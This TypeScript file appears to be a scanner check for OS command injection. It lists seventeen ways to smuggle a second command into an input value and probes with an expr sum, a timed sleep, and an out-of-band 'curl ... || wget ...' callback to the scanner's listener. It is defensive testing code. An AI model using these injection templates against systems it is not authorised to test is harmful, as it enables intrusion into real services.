// Checks for command injection: a shell computes the sum of two numbers in the value, sleeps as told, or calls out.

import type { PointCheck } from '../check.ts'
import { isSettled, settle } from '../found.ts'
import { expectCall, firstThatShows, takesText, textValue } from '../probing.ts'
import { waitsAsAsked } from '../timing.ts'

/** Ways to end the command in front of a value and start another one. */
const breaks: readonly ((text: string, command: string) => string)[] = [
  (text, command) => `${text};${command}`,
  (text, command) => `${text}|${command}`,
  (text, command) => `${text}&&${command}`,
  (text, command) => `${text}\n${command}`,
  (text, command) => `${text}$(${command})`,
  (text, command) => `${text}\`${command}\``,
  (text, command) => `${text}";${command};"`,
  (text, command) => `${text}';${command};'`,
  (_, command) => `;${command};`,
  (_, command) => `$(${command})`,
  (text, command) => `${text}&${command}&`,
  (text, command) => `${text}"$(${command})"`,
  (text, command) => `${text}';${command} #`,
  (text, command) => `${text}");${command} #`,
  // where what stands behind the value would be taken for arguments
  (text, command) => `${text};${command} #`,
  (text, command) => `${text}||${command} #`,
  // the value is the whole command, with or without a shell
  (_, command) => command,
]

export const commands: PointCheck = {
  kind: 'point',
  id: 'command-injection',
  title: 'OS command injection',
  cwes: [78],
  severity: 'CRITICAL',
  solution: 'Start programs with an argument list and without a shell, and accept only expected values.',
  profile: 'BALANCED',
  usesListener: true,
  accepts: takesText,
  async probe(point, operation, context) {
    const text = textValue(point)
    const makers = [
      ...breaks.map((way) => () => {
        const [left, right] = [context.number(8), context.number(8)]
        return { value: way(text, `expr ${left} + ${right}`), made: String(left + right) }
      }),
      () => {
        const [left, right] = [context.number(8), context.number(8)]
        return { value: `${text}&set /a ${left}+${right}`, made: String(left + right) }
      },
    ]
    const shown = await firstThatShows(makers, ({ text: body }, sum) => (body.includes(sum) ? sum : null), {
      point,
      operation,
      context,
    })
    if (shown) {
      settle(78, operation, point, context)
      return {
        detail: `A shell ran the command in the value: the response contains its sum, ${shown.proof}.`,
        proof: [shown.proof],
        exchange: shown.exchange,
      }
    }
    for (const way of context.outOfBand ? breaks.slice(0, 9) : []) {
      const isHit = await expectCall(
        operation,
        context,
        ({ url }) => context.attempt(operation, [{ point, value: way(text, `(curl -s ${url}||wget -qO- ${url})`) }]),
        (exchange, url) => {
          const detail = 'A command in the value made the target send a request to the scanner.'
          context.report(commands, { operation, point, detail, proof: [url], exchange })
        },
      )
      if (isHit) return null
    }
    for (const way of isSettled(89, operation, point, context) ? [] : breaks.slice(0, 8)) {
      const delayed = await waitsAsAsked((seconds) => way(text, `sleep ${seconds}`), point, operation, context)
      if (delayed) {
        return {
          detail: `The response is delayed by as long as the value tells the shell to sleep: ${delayed.seconds} s, half of it and nothing, in alternation.`,
          proof: [],
          exchange: delayed.exchange,
        }
      }
    }
    return null
  },
}
